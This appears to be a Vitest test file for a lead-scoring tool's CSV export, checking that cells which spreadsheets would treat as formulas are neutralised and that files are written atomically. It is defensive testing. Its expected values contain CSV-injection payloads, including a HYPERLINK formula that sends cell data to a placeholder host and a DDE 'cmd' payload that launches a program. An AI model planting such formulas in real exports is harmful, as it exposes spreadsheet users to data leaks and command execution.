import { mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { createAtomicFile, csvCell, scoresCsvHeader, scoresCsvRows } from '../../src/data/csv-write.js';
import { FORMULA_PAYLOADS } from '../fixtures/csv.js';

describe('csvCell', () => {
  it('prefixes a single quote to what a spreadsheet would run as a formula, and quotes what needs it', () => {
    expect(FORMULA_PAYLOADS.map(csvCell)).toEqual([`"'=HYPERLINK(""http://x/?""&A1,""click"")"`, "'+cmd|' /C calc'!A0", "'-2+3", "'@SUM(1)", "'\tx", `"'\rx"`]);
    // The full-width forms that some spreadsheets fold into = + - @.
    expect(['＝1+2', '＋1', '－1', '＠A1'].map(csvCell)).toEqual(["'＝1+2", "'＋1", "'－1", "'＠A1"]);
  });

  it('leaves ordinary text alone, quoting only commas, quotes and line breaks', () => {
    const ordinary = ['dac32acd4db4c29c230538b72f8dd87d', 'lead-1', 'a=b', "o'brien", '', ' =not-first', '1e-7'];
    expect(ordinary.map(csvCell)).toEqual(ordinary);
    expect(['a,b', 'say "hi"', 'two\nlines'].map(csvCell)).toEqual(['"a,b"', '"say ""hi"""', '"two\nlines"']);
  });
});

describe('scoresCsvRows', () => {
  it('reads back, with csv-parse, as the neutralised ids and the exact probabilities', () => {
    const probabilities = [0.0632926465729936, 1e-7, 0.1, 1 / 3, 0, 1, Number.MIN_VALUE, 0.9999999999999999];
    const ids = [...FORMULA_PAYLOADS, 'lead-1', 'a,b'];
    const rows = ids.map((mql_id, i) => ({ mql_id, probability: probabilities[i]!, tier: 'ABCD'[i % 4]! }));
    const text = scoresCsvHeader(true) + scoresCsvRows(rows, '=20261129.992a9f22');
    const records = parse(text, { columns: true }) as Record<string, string>[];
    expect(records.map((r) => r.mql_id)).toEqual([...FORMULA_PAYLOADS.map((id) => `'${id}`), 'lead-1', 'a,b']);
    expect(records.map((r) => Number(r.probability))).toEqual(probabilities);
    expect(records.map((r) => r.tier)).toEqual(rows.map((r) => r.tier));
    expect(new Set(records.map((r) => r.model_version))).toEqual(new Set(["'=20261129.992a9f22"]));
    expect(scoresCsvHeader(false) + scoresCsvRows(rows.slice(6, 7))).toBe('mql_id,probability,tier\nlead-1,5e-324,C\n');
  });
});

describe('createAtomicFile', () => {
  const folder = () => mkdtempSync(path.join(tmpdir(), 'leadscore-atomic-'));

  it('replaces the file only on commit, and leaves it untouched on abort', async () => {
    const dir = folder();
    const file = path.join(dir, 'out.csv');
    writeFileSync(file, 'old\n');
    const aborted = createAtomicFile(file);
    aborted.stream.write('half');
    await aborted.abort();
    expect(readFileSync(file, 'utf8')).toBe('old\n');
    expect(readdirSync(dir)).toEqual(['out.csv']);

    const committed = createAtomicFile(file);
    committed.stream.write('new\n');
    expect(readFileSync(file, 'utf8')).toBe('old\n');
    await committed.commit();
    expect(readFileSync(file, 'utf8')).toBe('new\n');
    expect(readdirSync(dir)).toEqual(['out.csv']);
  });

  it('fails on commit when the folder cannot be written, leaving nothing behind', async () => {
    const missing = path.join(folder(), 'no-such-folder', 'out.csv');
    const file = createAtomicFile(missing);
    await expect(file.commit()).rejects.toThrow(/ENOENT/);
  });
});
